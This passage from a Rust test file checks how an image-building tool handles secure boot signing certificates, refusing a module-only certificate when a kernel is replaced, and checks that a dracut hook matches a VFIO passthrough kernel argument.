        json["signing"]["certificate"]["sha256"],
        signing.certificate.sha256.as_str()
    );
    assert_eq!(json["signing"]["key"]["from"], "file");
    assert!(
        json["signing"]["certificate"].get("pem").is_none(),
        "{json}"
    );
    let image = Plan::resolve(&config, &Target::Image).unwrap();
    assert!(
        !image.warnings.iter().any(|w| w.contains("[signing]")),
        "{:?}",
        image.warnings
    );
}

#[test]
fn a_module_signing_only_certificate_is_refused_only_when_a_kernel_is_replaced() {
    let (_tree_dir, tree) = vendor_reset_tree();
    let packages = tempfile::tempdir().unwrap();
    let packages = Utf8Path::from_path(packages.path()).unwrap();
    let keys = tempfile::tempdir().unwrap();
    let keys = Utf8Path::from_path(keys.path()).unwrap();
    let signing = signing_toml(keys, "codeSigning, 1.3.6.1.4.1.2312.16.1.2");
    let modules_only = secure_boot_config(&tree, packages, false, &signing);
    assert!(
        Plan::resolve(&modules_only, &Target::Image)
            .unwrap()
            .signs()
    );
    let with_kernel = secure_boot_config(&tree, packages, true, &signing);
    let err = Plan::resolve(&with_kernel, &Target::Image).unwrap_err();
    let err = err.downcast::<InputError>().unwrap();
    assert_eq!(err.field, "signing.cert");
    assert!(
        err.message.contains("1.3.6.1.4.1.2312.16.1.2"),
        "{}",
        err.message
    );
}

#[test]
fn a_layer_reads_in_text_as_plan_json_names_it() {
    for layer in [Layer::Initramfs, Layer::Host] {
        assert_eq!(serde_json::to_value(layer).unwrap(), layer.to_string());
    }
}

/// The initramfs hook reads the argument the plan writes the addresses into. Its name is in both places: the
/// hook's only input is the kernel's command line, which it matches with `-` and `_` alike, as the kernel does.
#[test]
fn the_dracut_hook_reads_the_planned_address_argument() {
    let (_, hook) = DRACUT_MODULE_FILES
        .iter()
        .find(|(name, _)| *name == "passthru-vfio-bind.sh")
        .unwrap();
    let name = crate::kargs::params::RD_PASSTHRU_VFIO_ADDRESSES.name;
    let pattern = format!("{}=*)", name.replace('_', "[_-]"));
    assert!(hook.contains(&pattern), "the hook does not match {pattern}");
}
